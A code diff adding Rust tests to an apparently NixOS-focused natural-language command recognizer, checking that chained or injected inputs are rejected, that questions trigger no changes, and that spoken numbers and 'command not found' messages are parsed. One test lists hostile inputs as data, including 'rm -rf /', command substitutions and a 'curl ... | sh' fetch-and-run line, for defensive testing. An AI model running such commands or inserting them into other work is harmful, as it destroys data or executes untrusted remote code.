@@ -57,3 +57,77 @@ fn nothing_is_done_that_nobody_asked_for() {
         assert!(!changes || got.confidence < 0.5, "{text}: {got:?}");
     }
 }
+
+fn understood(text: &str) -> Recognition {
+    Recognizer::new().recognize(&Query::new(text), &Context::default())
+}
+
+#[test]
+fn half_a_line_is_not_acted_on() {
+    for text in [
+        "restart $(reboot)",
+        "try \"$(id)\" cmatrix",
+        "remove `whoami`",
+        "install firefox; rm -rf /",
+        "install vlc && curl http://192.0.2.1/x | sh",
+        "install package&background",
+        "install it",
+        "python and rust",
+    ] {
+        let got = understood(text);
+        assert_eq!(got.intent, OUT_OF_SCOPE, "{text}: {got:?}");
+        assert!(got.then.is_empty(), "{text}: {got:?}");
+    }
+    // What is no harm is left aside, and said to be.
+    let got = understood("update my system; reboot");
+    assert_eq!((got.intent.as_str(), got.then[0].intent.as_str()), ("update_system", OUT_OF_SCOPE));
+    let known = Context { previous: vec![understood("what is btop")], ..Context::default() };
+    let got = Recognizer::new().recognize(&Query::new("install it"), &known);
+    assert_eq!((got.intent.as_str(), &got.slots["packages"]), ("install_package", &serde_json::json!(["btop"])));
+}
+
+#[test]
+fn who_only_wonders_changes_nothing() {
+    for text in
+        ["ollama on?", "switch vs boot vs test in nixos-rebuild?", "three generations back, what was different?"]
+    {
+        let got = understood(text);
+        let changes = |intent: &str| crate::catalogue::intent(intent).is_some_and(|intent| intent.changes);
+        let acts = |intent: &str, mode| changes(intent) && mode == crate::recognition::Mode::Do;
+        assert!(!acts(&got.intent, got.mode), "{text}: {got:?}");
+        assert!(!got.then.iter().any(|request| acts(&request.intent, request.mode)), "{text}: {got:?}");
+    }
+}
+
+#[test]
+fn numbers_are_read_as_they_are_said() {
+    for (text, slot, value) in [
+        ("open port eighty eighty", "ports", serde_json::json!([8080])),
+        ("open port four forty three please", "ports", serde_json::json!([443])),
+        ("open udp port five one eight two zero", "ports", serde_json::json!([51820])),
+        ("close ports three thousand and three thousand one", "ports", serde_json::json!([3000, 3001])),
+        ("open port 25565 4 minecraft", "ports", serde_json::json!([25565])),
+        ("open not 8080 but 8081", "ports", serde_json::json!([8081])),
+        ("close ports 3000 through 3002", "ports", serde_json::json!([3000, 3001, 3002])),
+        ("roll back to generation forty too", "generation", serde_json::json!(42)),
+        ("roll back to generation three oh four", "generation", serde_json::json!(304)),
+        ("compare generation forty and generation forty three", "to", serde_json::json!(43)),
+        ("what changed between number 118 and number 121 of the generations", "to", serde_json::json!(121)),
+        ("upgrade from twenty four eleven to twenty five oh five", "release", serde_json::json!("25.05")),
+    ] {
+        let got = understood(text);
+        assert_eq!(got.slots.get(slot), Some(&value), "{text}: {got:?}");
+    }
+}
+
+#[test]
+fn a_command_that_a_shell_does_not_know_is_looked_for() {
+    for text in ["bash: lsusb: command not found", "zsh: command not found: lsusb", "fish: Unknown command: lsusb"] {
+        let got = understood(text);
+        assert_eq!((got.intent.as_str(), &got.slots["command"]), ("find_provider", &serde_json::json!("lsusb")));
+    }
+    // Nix's own come with NixOS, and in a log it is what made something else fail.
+    for text in ["sudo: nixos-rebuild: command not found", "error: builder failed\nbash: lsusb: command not found"] {
+        assert_eq!(understood(text).intent, "explain_error", "{text}");
+    }
+}
